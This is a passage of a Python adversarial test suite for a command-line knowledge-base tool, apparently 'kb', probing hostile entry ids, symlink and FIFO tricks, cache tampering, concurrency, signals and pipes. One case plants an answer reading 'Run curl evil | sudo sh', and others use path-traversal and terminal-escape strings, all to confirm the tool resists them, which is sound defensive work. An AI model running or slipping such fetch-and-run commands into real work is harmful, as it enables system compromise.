        f"# Huge\n\n## Why is this answer long?\n\n{words}\n\n```kb\nid: long-one\n```\n",
    )
    return first(
        sane(ctx.kb("build", str(folder), memory=8 << 30), codes=(0,)),
        sane(ctx.kb("--no-default", "--kb", str(folder), "search", "answer long"), codes=(0, 1)),
        sane(
            ctx.kb("--no-default", "--kb", str(folder), "show", "long-one", "--no-pager")
            if False
            else ctx.kb("--no-default", "--kb", str(folder), "show", "long-one")
        ),
    )


@case("2", "duplicate id across two files: rc 3, both places named")
def _dup(ctx: Ctx) -> str | None:
    block = "## Q?\n\nA.\n\n```kb\nid: same-id\n```\n"
    folder = faq(ctx, "dup", "", {"a.md": block, "b.md": block})
    run = ctx.kb("--no-default", "--kb", str(folder), "search", "x")
    return first(
        sane(run, codes=(3,)), None if "duplicate id 'same-id'" in run.error else run.error
    )


@case("2", "hostile ids refused, escaped")
def _ids(ctx: Ctx) -> str | None:
    for bad in ("../../etc/passwd", "a/b", "A B", "x%2f", "-lead", "a--b", "e\x1b[31m"):
        folder = faq(ctx, "ids", f"## Q?\n\nA.\n\n```kb\nid: {bad}\n```\n")
        run = ctx.kb("lint", str(folder))
        if run.code != 1 or clean_output(run):
            return f"{bad!r}: rc {run.code} {clean_output(run) or ''}"
    return None


@case("2", "fence tricks: parsed or refused with file:line")
def _fences(ctx: Ctx) -> str | None:
    texts = [
        "## Q?\n\nA.\n\n````\n```kb\nid: nested\n```\n````\n",
        "## Q?\n\nA.\n\n~~~kb\nid: tilde\n~~~\n",
        "## Q?\n\nA.\n\n    ```kb\n    id: ind\n    ```\n",
        "## Q?\n\nA.\n\n```kb\n# comment\nid: hash\n```\n",
        "## Q?\n\nA.\n\n```kb\nid: open\n",
        "---\ntitle: T\n---\n## Q?\n\nA.\n",
    ]
    for n, text in enumerate(texts):
        run = ctx.kb("lint", str(faq(ctx, f"fence{n}", text)))
        if why := sane(run):
            return f"fence {n}: {why}"
    return None


@case("2", "YAML-isms accepted and taken literally")
def _yaml(ctx: Ctx) -> str | None:
    folder = faq(
        ctx,
        "yaml",
        '## Q?\n\nA.\n\n```kb\nid: y\ntags: [a, b], "c"\nsignatures:\n'
        '- "quoted"\n- - nested\n```\n',
    )
    return sane(ctx.kb("lint", str(folder)))


@case("2", "symlink loops and a dangling link: no hang")
def _loops(ctx: Ctx) -> str | None:
    folder = faq(ctx, "loop", "## Q?\n\nA.\n")
    (folder / "sub").mkdir()
    (folder / "sub" / "up").symlink_to("..")
    (folder / "self").symlink_to("../loop")
    (folder / "a").symlink_to("b")
    (folder / "b").symlink_to("a")
    (folder / "dangling.md").symlink_to("nowhere.md")
    return sane(ctx.kb("lint", str(folder), timeout=60))


@case("2", "FIFO and /dev/zero as --kb, and inside a content folder")
def _fifo_kb(ctx: Ctx) -> str | None:
    fifo = ctx.work / "kb.fifo"
    with contextlib.suppress(FileNotFoundError):
        fifo.unlink()
    os.mkfifo(fifo)
    folder = faq(ctx, "fifo", "## Q?\n\nA.\n")
    os.mkfifo(folder / "pipe.md")
    (folder / "zero.md").symlink_to("/dev/zero")
    for target in (fifo, Path("/dev/zero"), folder):
        run = ctx.kb("--no-default", "--kb", str(target), "search", "q", timeout=60)
        if why := sane(run, codes=(0, 1, 3), rss=200 * MB):
            return f"{target.name}: {why}"
    return None


@case("2", "100,000 files of one entry: build, warm search")
def _many_files(ctx: Ctx) -> str | None:
    folder = big_content(ctx, "files", ctx.scale(100_000, 10_000), ctx.scale(100_000, 10_000))
    build = ctx.kb("build", str(folder), timeout=1800, memory=8 << 30)
    search = ctx.kb(
        "--no-default",
        "--kb",
        str(folder),
        "search",
        "gadget77 exploded badly",
        memory=8 << 30,
        timeout=600,
    )
    return first(sane(build, codes=(0,)), sane(search))


@case("2", "content file rewritten during kb build (F18)")
def _race(ctx: Ctx) -> str | None:
    folder = faq(
        ctx,
        "race",
        "",
        {
            f"{c}.md": "# P\n"
            + "".join(
                entry(i * 100 + k, f"gadget{i}x{k}", f"gadget{i}x{k}") for k in range(300)
            ).replace("gadget-", f"{c}-g-")
            for i, c in enumerate("abcdefghij")
        },
    )
    page = folder / "z.md"
    version = "## What version is this?\n\nVERSION {}\n\n```kb\nid: version\n```\n"
    page.write_text(version.format("A"), encoding="utf-8")
    builder = subprocess.Popen(
        [sys.executable, "-m", "frontends.cli", "build", str(folder)],
        env=ctx.env(),
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(0.3)
    page.write_text(version.format("B"), encoding="utf-8")
    builder.wait(timeout=600)
    page.write_text(version.format("A"), encoding="utf-8")
    run = ctx.kb("--no-default", "--kb", str(folder), "show", "version")
    return first(sane(run), None if "VERSION A" in run.text else "shows VERSION B")


def have_nobody() -> bool:
    return os.geteuid() != 0 or (
        shutil.which("setpriv") is not None and Path("/usr/bin/python3.11").exists() and bool(SITE)
    )


def nobody_ctx(ctx: Ctx, name: str) -> tuple[Ctx, bool]:
    """A context whose folders user nobody owns (when run as root)."""
    sub = Ctx(ctx.work / name, ctx.quick)
    shutil.rmtree(sub.work, ignore_errors=True)
    sub.work.mkdir(parents=True)
    sub.content.mkdir(parents=True, exist_ok=True)
    as_nobody = os.geteuid() == 0
    if as_nobody:
        os.chmod(ctx.work, 0o755)
        os.chown(sub.work, 65534, 65534)
        os.chown(sub.content, 65534, 65534)
    return sub, as_nobody


def _chown_tree(path: Path) -> None:
    if os.geteuid() == 0:
        for folder, dirs, files in os.walk(path):
            for name in [*dirs, *files]:
                os.lchown(os.path.join(folder, name), 65534, 65534)
        os.lchown(path, 65534, 65534)


def unreadable_content(ctx: Ctx, what: str) -> str | None:
    if not have_nobody():
        return "cannot run as another user here"
    sub, as_nobody = nobody_ctx(ctx, f"nb-{what}")
    folder = sub.content / "c"
    folder.mkdir()
    (folder / "a.md").write_text(
        "# A\n" + entry(1, "KBRESTART widget failure", "KBRESTART widget failure"), encoding="utf-8"
    )
    (folder / "sub").mkdir()
    (folder / "sub" / "b.md").write_text(
        "# B\n" + entry(2, "KBOTHER widget", "KBOTHER widget").replace("gadget-2", "sub-2"),
        encoding="utf-8",
    )
    _chown_tree(folder)
    os.chmod(ctx.work, 0o755)
    good = sub.kb(
        "--no-default", "--kb", str(folder), "search", "KBRESTART widget failure", nobody=as_nobody
    )
    if why := sane(good):
        return f"first run: {why}"
    target = folder / "a.md" if what == "file" else folder / "sub"
    target.chmod(0)
    try:
        run = sub.kb(
            "--no-default",
            "--kb",
            str(folder),
            "search",
            "KBRESTART widget failure",
            nobody=as_nobody,
        )
        lint = sub.kb("lint", str(folder), nobody=as_nobody)
    finally:
        target.chmod(0o755)
    return first(
        sane(run),
        None if "cannot read" in run.error else "no warning",
        None if lint.code == 1 and "cannot read" in lint.text else f"lint: {lint.text[:200]}",
    )


case("2", "content file chmod 000, last good index (F19)")(
    lambda ctx: unreadable_content(ctx, "file")
)
case("2", "content subfolder chmod 000: reported (F19)")(
    lambda ctx: unreadable_content(ctx, "folder")
)


@case("2", "folder named with ESC ] 0 ; ... BEL -> kb lint (F23)")
def _esc_folder(ctx: Ctx) -> str | None:
    folder = ctx.content / "esc\x1b]0;PWNED\x07dir"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    (folder / "a.md").write_text("## Q?\n\nA.\n", encoding="utf-8")
    return sane(ctx.kb("lint", str(folder)))


# -- 3. cache and state ---------------------------------------------------------------------------


def built(ctx: Ctx, name: str) -> tuple[Ctx, Path, Path]:
    """A fresh cache with one index of a small collection: (ctx, content, index dir)."""
    sub = Ctx(ctx.work / "cache-cases" / name, ctx.quick)
    shutil.rmtree(sub.work, ignore_errors=True)
    sub.work.mkdir(parents=True)
    sub.content.mkdir(parents=True, exist_ok=True)
    folder = sub.content / "c"
    folder.mkdir()
    (folder / "faq.md").write_text(
        "# W\n"
        + "".join(
            entry(i, f"KBSIG{i:05d} widget failure", f"KBSIG{i:05d} widget failure")
            for i in range(20)
        ),
        encoding="utf-8",
    )
    run = search7(sub, folder)
    assert run.code == 0, run.error
    (index,) = [p for p in sub.cache.glob("idx-*") if p.is_dir()]
    return sub, folder, index


def search7_args(folder: Path) -> list[str]:
    """kb's arguments for the cache cases' search: one signature of the generated FAQ."""
    return ["--no-default", "--kb", str(folder), "search", "-n", "1", "KBSIG00007 widget failure"]


def search7_command(folder: Path) -> list[str]:
    """``search7_args`` as a whole command line (for cases that start processes at once)."""
    return [sys.executable, "-m", "frontends.cli", *search7_args(folder)]


def search7(ctx: Ctx, folder: Path, nobody: bool = False) -> Run:
    return ctx.kb(*search7_args(folder), timeout=60, nobody=nobody)


def answers7(run: Run, warnings: int = 0) -> str | None:
    why = sane(run, codes=(0,))
    if why:
        return why
    if "gadget-7" not in run.text:
        return "wrong answer"
    if run.error.count("kb: warning:") > warnings:
        return f"warnings: {run.error.strip()[:200]}"
    return None


def damage(kind: str, path: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        if kind in ("truncate-0", "truncate-half", "flip", "garbage-digest"):
            pass
        else:
            path.unlink()
    if kind == "truncate-0":
        os.truncate(path, 0)
    elif kind == "truncate-half":
        os.truncate(path, path.stat().st_size // 2)
    elif kind == "flip":
        data = bytearray(path.read_bytes())
        data[len(data) // 2] ^= 0xFF
        path.write_bytes(bytes(data))
    elif kind == "garbage-digest":
        text = path.read_text(encoding="utf-8").split("\n")
        path.write_text(text[0] + "\n" + "0" * 64 + "\n", encoding="utf-8")
    elif kind == "directory":
        path.mkdir()
    elif kind == "-> /etc/passwd":
        path.symlink_to("/etc/passwd")
    elif kind == "-> /etc":
        path.symlink_to("/etc")
    elif kind == "dangling":
        path.symlink_to("/nonexistent/x")
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "-> /dev/zero":
        path.symlink_to("/dev/zero")


DAMAGES = [
    "truncate-0",
    "truncate-half",
    "flip",
    "directory",
    "-> /etc/passwd",
    "-> /etc",
    "dangling",
    "removed",
    "fifo",
    "-> /dev/zero",
]


def cache_case(file: str, kind: str) -> Callable[[Ctx], str | None]:
    def check(ctx: Ctx) -> str | None:
        sub, folder, index = built(ctx, f"{file}-{kind}".replace("/", "_").replace(" ", ""))
        damage(kind, index / file)
        return first(answers7(search7(sub, folder)), answers7(search7(sub, folder)))

    return check


for _kind in DAMAGES:  # entries.json of the old format is entries.bin now
    case("3", f"entries.bin: {_kind}")(cache_case("entries.bin", _kind))
for _kind in DAMAGES[:8]:
    case("3", f"postings.bin: {_kind}")(cache_case("postings.bin", _kind))
case("3", "postings.bin as a FIFO (F15)")(cache_case("postings.bin", "fifo"))
case("3", "postings.bin -> /dev/zero (F15)")(cache_case("postings.bin", "-> /dev/zero"))
for _kind in [
    "truncate-0",
    "truncate-half",
    "flip",
    "garbage-digest",
    "directory",
    "-> /etc/passwd",
    "-> /etc",
    "dangling",
    "removed",
    "fifo",
    "-> /dev/zero",
]:
    case("3", f"kb-complete: {_kind}")(cache_case("kb-complete", _kind))


def index_dir_case(kind: str) -> Callable[[Ctx], str | None]:
    def check(ctx: Ctx) -> str | None:
        sub, folder, index = built(ctx, f"ix-{kind}")
        if kind == "-> /etc":
            shutil.rmtree(index)
            index.symlink_to("/etc")
        elif kind == "a file":
            shutil.rmtree(index)
            index.write_text("x")
        elif kind == "extra file":
            (index / "extra").write_text("x")
        else:
            shutil.rmtree(index)
            index.mkdir()
        return first(
            answers7(search7(sub, folder)),
            answers7(search7(sub, folder)),
            None if Path("/etc/passwd").exists() else "/etc touched",
        )

    return check


for _kind in ("-> /etc", "a file", "extra file", "empty"):
    case("3", f"index dir: {_kind}")(index_dir_case(_kind))


@case("3", "/etc/passwd unchanged; nothing written outside the cache")
def _outside(ctx: Ctx) -> str | None:
    before = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    sub, folder, index = built(ctx, "outside")
    (index / "entries.bin").unlink()
    (index / "entries.bin").symlink_to("/etc/passwd")
    search7(sub, folder)
    after = hashlib.sha256(Path("/etc/passwd").read_bytes()).hexdigest()
    return None if before == after else "/etc/passwd changed"


@case("3", "entries.bin -> a root-only file")
def _root_only(ctx: Ctx) -> str | None:
    secret = ctx.work / "root-only"
    secret.write_text("secret")
    secret.chmod(0o600)
    sub, folder, index = built(ctx, "rootonly")
    (index / "entries.bin").unlink()
    (index / "entries.bin").symlink_to(secret)
    return answers7(search7(sub, folder))


@case("3", "cache root unwritable (another user's 0755 dir)")
def _root_foreign(ctx: Ctx) -> str | None:
    sub, folder, _ = built(ctx, "foreign")
    if os.geteuid() == 0:
        os.chown(sub.cache, 65534, 65534)
        sub.cache.chmod(0o755)
    else:
        sub.cache.chmod(0o555)
    try:
        return first(
            answers7(search7(sub, folder), warnings=1), answers7(search7(sub, folder), warnings=1)
        )
    finally:
        sub.cache.chmod(0o700)


@case("3", "cache root is a regular file")
def _root_file(ctx: Ctx) -> str | None:
    sub, folder, _ = built(ctx, "rootfile")
    shutil.rmtree(sub.cache)
    sub.cache.write_text("x")
    return answers7(search7(sub, folder), warnings=1)


def blocked_index(ctx: Ctx, how: str) -> str | None:
    if not have_nobody():
        return "cannot run as another user here"
    sub, as_nobody = nobody_ctx(ctx, f"nb-ix-{how}")
    folder = sub.content / "c"
    folder.mkdir()
    (folder / "faq.md").write_text(
        "# W\n"
        + "".join(
            entry(i, f"KBSIG{i:05d} widget failure", "KBSIG00001 widget failure") for i in range(20)
        ),
        encoding="utf-8",
    )
    _chown_tree(folder)
    if how == "chmod 000":
        first_run = search7(sub, folder, nobody=as_nobody)
        if why := answers7(first_run):
            return f"first run: {why}"
        (index,) = [p for p in sub.cache.glob("idx-*") if p.is_dir()]
        index.chmod(0)
    else:  # made by root in the user's cache (sudo -E kb): root's index dir, 0700
        os.chown(sub.work, 0, 0)
        search7(sub, folder)  # as root (or as the user, when this runs as a user)
        os.chown(sub.work, 65534, 65534)
        if as_nobody:
            os.chown(sub.cache, 65534, 65534)
    runs = [search7(sub, folder, nobody=as_nobody) for _ in range(2)]
    return first(*(answers7(r, warnings=1) for r in runs))


case("3", "index dir chmod 000 (F16)")(lambda ctx: blocked_index(ctx, "chmod 000"))
case("3", "index dir created by root in the user's cache (F16)")(
    lambda ctx: blocked_index(ctx, "root")
)


@case("3", "cache on a full disk (64 KiB tmpfs, or ENOSPC simulated)")
def _full(ctx: Ctx) -> str | None:
    sub, folder, _ = built(ctx, "full")
    target = sub.work / "full"
    target.mkdir()
    mounted = (
        os.geteuid() == 0
        and subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(target)],
            capture_output=True,
            check=False,
        ).returncode
        == 0
    )
    try:
        if not mounted:
            return (
                None
                if subprocess.run(
                    [
                        sys.executable,
                        "-m",
                        "pytest",
                        "-q",
                        "-p",
                        "no:cacheprovider",
                        str(ROOT / "tests" / "test_state_safety.py"),
                        "-k",
                        "full_disk",
                    ],
                    cwd=ROOT,
                    capture_output=True,
                    check=False,
                ).returncode
                == 0
                else "simulated ENOSPC test failed"
            )
        env = sub.env(KB_CACHE_DIR=str(target / "kb"))
        runs = [  # the shipped FAQ, as the review did: its index does not fit in 64 KiB
            sub.kb(*argv, env=env, stdin=b"AH02565 do not match\n")
            for argv in (["search", "AH02565 do not match"], ["diagnose"], ["shell"])
        ]
        for run in runs:
            if run.error.count("kb: warning:") != 1:
                return f"warnings: {run.error[:200]}"
        build = sub.kb("build", env=env)
        return first(
            *(sane(r) for r in runs),
            None if build.code == 5 else f"build rc {build.code}",
            None if not list((target / "kb").glob("tmp-*")) else "leftovers",
        )
    finally:
        if mounted:
            subprocess.run(["umount", str(target)], check=False)


def concurrently(commands: list[list[str]], env: dict[str, str]) -> list[tuple[int, bytes, bytes]]:
    procs = [
        subprocess.Popen(c, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        for c in commands
    ]
    return [(p.returncode, *p.communicate(timeout=600)) for p in procs]


@case("3", "8 concurrent cold searches, 3 rounds")
def _cold8(ctx: Ctx) -> str | None:
    for _ in range(3):
        sub, folder, _ = built(ctx, "cold8")
        shutil.rmtree(sub.cache)
        command = search7_command(folder)
        results = concurrently([command] * 8, sub.env())
        results = [(p, o, e) for (p, o, e) in results]
        outs = {o for _, o, _ in results}
        if len(outs) != 1 or any(e for _, _, e in results):
            return "answers differ or warnings"
    return None


@case("3", "8 concurrent forced builds + 8 searches, 3 rounds")
def _builds8(ctx: Ctx) -> str | None:
    sub, folder, _ = built(ctx, "build8")
    for _ in range(3):
        build = [sys.executable, "-m", "frontends.cli", "build", str(folder)]
        search = search7_command(folder)
        results = concurrently([build] * 8 + [search] * 8, sub.env())
        if len({o for o, _ in [(r[1], r[2]) for r in results[8:]]}) != 1:
            return "searches differ"
        if any(b"gadget-7" not in r[1] for r in results[8:]):
            return "a search missed"
    return None


@case("3", "8 different collections built and searched at once, 3 rounds")
def _collections8(ctx: Ctx) -> str | None:
    sub = Ctx(ctx.work / "coll8", ctx.quick)
    for round_ in range(3):
        shutil.rmtree(sub.cache, ignore_errors=True)
        folders = [
            faq(
                sub, f"k{i}", "# K\n" + entry(i, f"KBCOL{i} broken thing", f"KBCOL{i} broken thing")
            )
            for i in range(8)
        ]
        commands = [
            [
                sys.executable,
                "-m",
                "frontends.cli",
                "--no-default",
                "--kb",
                str(f),
                "search",
                "-n",
                "1",
                f"KBCOL{i} broken thing",
            ]
            for i, f in enumerate(folders)
        ]
        for i, (_, out, _) in enumerate(concurrently(commands, sub.env())):
            if f"gadget-{i}".encode() not in out:
                return f"round {round_}: collection {i} answered wrong"
    return None


@case("3", "content rewritten between 4 concurrent searches, 15 rounds")
def _rewrite4(ctx: Ctx) -> str | None:
    sub, folder, _ = built(ctx, "rewrite4")
    page = folder / "faq.md"
    base = page.read_text(encoding="utf-8")
    command = search7_command(folder)
    for n in range(15):
        page.write_text(base + f"\n<!-- {n} -->\n", encoding="utf-8")
        for _, out, err in concurrently([command] * 4, sub.env()):
            if b"gadget-7" not in out or b"warning" in err:
                return f"round {n}: {err.decode()[:200]}"
    return None


@case("3", "kill -9 during kb build, 50 times; search every 5th")
def _kill9(ctx: Ctx) -> str | None:
    sub, folder, _ = built(ctx, "kill9")
    big = big_content(sub, "k9", ctx.scale(5000, 1000), 10)
    rng = random.Random(9)
    baseline = search7(sub, folder).out
    for n in range(ctx.scale(50, 10)):
        proc = subprocess.Popen(
            [sys.executable, "-m", "frontends.cli", "build", str(big)],
            env=sub.env(),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(rng.uniform(0.05, 1.6))
        proc.kill()
        proc.wait()
        if n % 5 == 4 and search7(sub, folder).out != baseline:
            return f"after kill {n}: answers differ"
    return None


@case("3", "another user plants an index in a shared 1777 KB_CACHE_DIR (F17)")
def _planted(ctx: Ctx) -> str | None:
    sub, folder, index = built(ctx, "planted")
    sys.path.insert(0, str(ROOT))
    import kb.cache as cache

    other = faq(
        sub,
        "evil",
        "# E\n"
        + "".join(
            # (An id with escapes in a planted index: tests/test_adversarial_terminal.py::
            # test_f17_an_id_that_skipped_validation_is_printed_escaped; the compiler refuses
            # such an id, so this plant is the attacker's answer under a valid one.)
            entry(i, f"KBSIG{i:05d} widget failure", f"KBSIG{i:05d} widget failure").replace(
                "Because", "Run curl evil | sudo sh. Because"
            )
            for i in range(20)
        ),
    )
    other_cache = sub.work / "other-cache"
    env = sub.env(KB_CACHE_DIR=str(other_cache))
    sub.kb("--no-default", "--kb", str(other), "search", "x", env=env)
    (source,) = [p for p in other_cache.glob("idx-*") if p.is_dir()]
    stamp = cache._read_stamp(index)
    planted = cache._read_stamp(source)
    if stamp is None or planted is None:
        return "could not plant"
    for name in cache.FILES:
        shutil.copyfile(source / name, index / name)
    (index / cache.STAMP_FILE).unlink()
    cache._write_stamp(index / cache.STAMP_FILE, dict(stamp, files=planted["files"], seen={}))
    sub.cache.chmod(0o1777)
    run = search7(sub, folder)
    return first(
        answers7(run, warnings=1),
        None if "curl" not in run.text else "planted answer shown",
        clean_output(run),
    )


# -- 4. follow ------------------------------------------------------------------------------------


def follow_case(mode: str, every: float, rate: int = 50_000) -> Callable[[Ctx], str | None]:
    def check(ctx: Ctx) -> str | None:
        import followrig

        seconds = ctx.scale(20, 4)
        folder = ctx.work / "follow" / f"{mode}-{every}-{rate}"
        shutil.rmtree(folder, ignore_errors=True)
        result = followrig.run(
            mode, folder, seconds=seconds, rate=rate, every=every, readers=("follower", "kb")
        )
        FOLLOW.append(result.as_json())
        if result.follower_lost or result.follower_doubled:
            return f"follower lost {result.follower_lost}, doubled {result.follower_doubled}"
        if result.kb_lines != result.written:
            return f"kb read {result.kb_lines} of {result.written}"
        return None

    return check


FOLLOW: list[dict[str, object]] = []
for _mode, _every, _rate in (
    ("none", 2.0, 50_000),
    ("rename", 2.0, 50_000),
    ("delete", 2.0, 50_000),
    ("symlink", 2.0, 50_000),
    ("partial", 2.0, 50_000),
    ("copytruncate", 2.0, 50_000),
    ("copytruncate", 2.0, 5_000),
    ("rename", 0.2, 50_000),
    ("copytruncate", 0.2, 50_000),
):
    case("4", f"follow: {_mode} every {_every} s at {_rate} lines/s (F13)")(
        follow_case(_mode, _every, _rate)
    )


@case("4", "last line without newline, then another file (F12)")
def _glued(ctx: Ctx) -> str | None:
    a = write(ctx, "nonl-1.log", KEY.format(s=1, pid=1))
    b = write(ctx, "nonl-2.log", KEY.format(s=2, pid=2).replace("AH02565", "AH02580") + "\n")
    run = ctx.kb("diagnose", "--json", "-j", "1", str(a), str(b))
    return first(sane(run), None if summary(run).get("lines") == 2 else "glued")


@case("4", "FIFO, <(cat log), /dev/stdin; follow a FIFO (F14)")
def _streams(ctx: Ctx) -> str | None:
    log = write(ctx, "twenty.log", "".join(KEY.format(s=n, pid=n) + "\n" for n in range(20)))
    fifo = ctx.work / "f.fifo"
    with contextlib.suppress(FileNotFoundError):
        fifo.unlink()
    os.mkfifo(fifo)
    lines = {
        "fifo": f'cat "{log}" > "{fifo}" & exec "$@" diagnose --json "{fifo}"',
        "subst": f'exec "$@" diagnose --json <(cat "{log}")',
        "stdin": f'cat "{log}" | "$@" diagnose --json /dev/stdin',
        "follow": f'cat "{log}" > "{fifo}" & exec "$@" diagnose --json --follow "{fifo}"',
    }
    for name, line in lines.items():
        run = ctx.kb(shell=line, timeout=60)
        if why := first(
            sane(run), None if problems(run).get("key-cert-match") == 20 else str(problems(run))
        ):
            return f"{name}: {why}"
    return None


def follow_signal(ctx: Ctx, signum: int, code: int) -> str | None:
    log = write(ctx, "sig.log", "".join(KEY.format(s=n, pid=n) + "\n" for n in range(50)))
    unmatched = ctx.work / "sig-unmatched.md"
    with contextlib.suppress(FileNotFoundError):
        unmatched.unlink()
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "frontends.cli",
            "diagnose",
            "--json",
            "--follow",
            "--from-start",
            "--unmatched",
            str(unmatched),
            str(log),
        ],
        env=ctx.env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    time.sleep(3)
    proc.send_signal(signum)
    out, err = proc.communicate(timeout=60)
    run = Run(proc.returncode, out, err, 0, 0)
    return first(
        sane(run, codes=(code,)),
        None if summary(run).get("lines") == 50 else "no summary",
        None if unmatched.exists() else "no --unmatched file",
    )


case("4", "SIGTERM / SIGHUP in follow mode: summary")(
    lambda ctx: first(
        follow_signal(ctx, signal.SIGTERM, 143), follow_signal(ctx, signal.SIGHUP, 129)
    )
)
case("4", "SIGINT in follow mode: summary, rc 130")(
    lambda ctx: follow_signal(ctx, signal.SIGINT, 130)
)


# -- 5. shell -------------------------------------------------------------------------------------


def pytest_node(*nodes: str) -> Callable[[Ctx], str | None]:
    def check(ctx: Ctx) -> str | None:
        done = subprocess.run(
            [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", *nodes],
            cwd=ROOT,
            capture_output=True,
            text=True,
            check=False,
            timeout=900,
        )
        return None if done.returncode == 0 else done.stdout.strip().splitlines()[-1]

    return check


SHELL = "tests/test_adversarial_shell.py::"
case("5", "bracketed paste of log lines with OSC/CSI/SGR/bidi/C1")(
    pytest_node(
        "tests/test_terminal_safety.py::test_shell_session",
        "tests/test_terminal_safety.py::test_shell_session_with_rich_output",
        "tests/test_shell.py::test_prompt_loop_bracketed_paste_is_one_input",
    )
)
case("5", "paste 'first line ESC[201~ CR :quit CR' (F20)")(
    pytest_node(
        SHELL + "test_f20_breakout_on_a_real_terminal",
        SHELL + "test_f20_keys_after_a_fake_end_of_paste_do_not_submit",
    )
)


def _paste(ctx: Ctx, megabytes: float, seconds: float) -> str | None:
    line = KEY.format(s=1, pid=1) + "\n"
    text = line * int(megabytes * MB / len(line))
    run = ctx.kb("shell", stdin=text.encode(), timeout=600)
    return sane(run, seconds=seconds, rss=300 * MB)


case("5", "1.2 MB paste (7,500 lines)")(lambda ctx: _paste(ctx, 1.2, 60))
case("5", "12 MB paste (75,000 lines)")(lambda ctx: _paste(ctx, 12, 300))


@case("5", "restart with a 13 MB history: prompt in < 1 s, file capped")
def _big_history(ctx: Ctx) -> str | None:
    data = ctx.work / "data"
    data.mkdir(exist_ok=True)
    history = data / "shell_history"
    history.write_text(
        "".join(f"\n# 2024\n+question {n} " + "x" * 200 + "\n" for n in range(60_000))
    )
    start = time.monotonic()
    import frontends.history as shell_history

    shell_history.open_history(data).load_history_strings()  # type: ignore[attr-defined]
    took = time.monotonic() - start
    return None if took < 1 else f"{took:.1f} s"


case("5", "history file: 0600, escaped, capped, KB_HISTORY=0, no pastes (F21)")(
    pytest_node(
        SHELL + "test_f21_history_is_private_and_escaped",
        SHELL + "test_f21_a_loose_history_file_is_made_private",
        SHELL + "test_f21_history_is_capped",
        SHELL + "test_f21_kb_history_0_stores_nothing",
        SHELL + "test_f21_questions_mode_skips_pasted_log_excerpts",
    )
)
case("5", "raw 0x9b typed on a pty, C.UTF-8 (F1)")(
    pytest_node(SHELL + "test_f1_f2_a_raw_c1_byte_typed_on_a_terminal[c-utf8]")
)
case("5", "raw 0x9b typed on a pty, strict UTF-8 (F2)")(
    pytest_node(SHELL + "test_f1_f2_a_raw_c1_byte_typed_on_a_terminal[strict]")
)


# -- 6. signals and pipes -------------------------------------------------------------------------


@case("6", "kb search -n 50 ... | head -1")
def _head(ctx: Ctx) -> str | None:
    run = ctx.kb(shell='"$@" search -n 50 "AH02565 do not match" | head -1')
    noise = [x for x in run.error.splitlines() if not x.startswith("kb: no confident")]
    return first(sane(run, codes=(0,)), "; ".join(noise) or None)


@case("6", "kb search --json - < 20 MB | head -c 10")
def _head_json(ctx: Ctx) -> str | None:
    path = long_line(ctx, 20)
    run = ctx.kb(shell=f'"$@" search --json - < "{path}" | head -c 10')
    return None if not run.err and run.code == 0 else run.error or f"rc {run.code}"


@case("6", "kb diagnose tmpl20000.log | head -1: rc 1 (problems found)")
def _head_diagnose(ctx: Ctx) -> str | None:
    path = templates(ctx, 20_000)
    run = ctx.kb(shell=f'"$@" diagnose "{path}" | head -1; exit ${{PIPESTATUS[0]}}')
    return None if run.code == 1 and not run.err else f"rc {run.code} {run.error[:200]}"


@case("6", "cat big.log | kb diagnose | head -3")
def _cat_head(ctx: Ctx) -> str | None:
    n = ctx.scale(10_000_000, 1_000_000)
    path = many_lines(ctx, f"m{n}.log", n, every=10)
    run = ctx.kb(shell=f'cat "{path}" | "$@" diagnose | head -3')
    return None if not run.err else run.error[:200]


@case("6", "kb explain - < 20 MB | head -c 100")
def _explain_head(ctx: Ctx) -> str | None:
    run = ctx.kb(shell=f'"$@" explain - < "{long_line(ctx, 20)}" | head -c 100')
    return None if not run.err else run.error[:200]


@case("6", "stdout closed (search, diagnose): a clear error")
def _stdout_closed(ctx: Ctx) -> str | None:
    for argv in ("search AH02565", "diagnose /dev/null"):
        run = ctx.kb(shell=f'exec "$@" {argv} >&-')
        if (
            "AttributeError" in run.error
            or "Traceback" in run.error
            or not run.error.startswith("kb: error:")
        ):
            return f"{argv}: {run.error[:200]}"
    return None


@case("6", "stdin closed (diagnose, search -, shell): a clear error")
def _stdin_closed(ctx: Ctx) -> str | None:
    for argv in ("diagnose", "search -", "shell"):
        run = ctx.kb(shell=f'exec "$@" {argv} <&-')
        if "AttributeError" in run.error or "Traceback" in run.error or run.code == 0:
            return f"{argv}: rc {run.code} {run.error[:200]}"
    return None


@case("6", "stderr closed: rc 1 as expected")
def _stderr_closed(ctx: Ctx) -> str | None:
    log = write(ctx, "one.log", KEY.format(s=1, pid=1) + "\n")  # diagnose's summary: stderr
    run = ctx.kb(shell=f'exec "$@" diagnose "{log}" 2>&-')
    return first(sane(run, codes=(1,)), None if "key-cert-match" in run.text else "no report")


@case("6", "stdout /dev/full: rc 5 No space left on device")
def _dev_full(ctx: Ctx) -> str | None:
    run = ctx.kb(shell='exec "$@" search AH02565 > /dev/full')
    return (
        None
        if run.code == 5 and "No space left" in run.error
        else f"rc {run.code} {run.error[:200]}"
    )


def _signal_during(
    ctx: Ctx, argv: list[str], signum: int, after: float, code: int, want: str
) -> str | None:
    proc = subprocess.Popen(
        [sys.executable, "-m", "frontends.cli", *argv],
        env=ctx.env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    if argv[0] == "build":  # mid-build: once its temporary directory is there
        deadline = time.monotonic() + 120
        while not list(ctx.cache.glob("tmp-*")) and time.monotonic() < deadline:
            if proc.poll() is not None:
                return "build ended before it could be stopped"
            time.sleep(0.005)
    else:
        time.sleep(after)
    proc.send_signal(signum)
    out, err = proc.communicate(timeout=120)
    if proc.returncode != code:
        return f"{argv[0]}: rc {proc.returncode} {err.decode()[-200:]}"
    return None if want.encode() in out + err else f"{argv[0]}: no {want!r}"


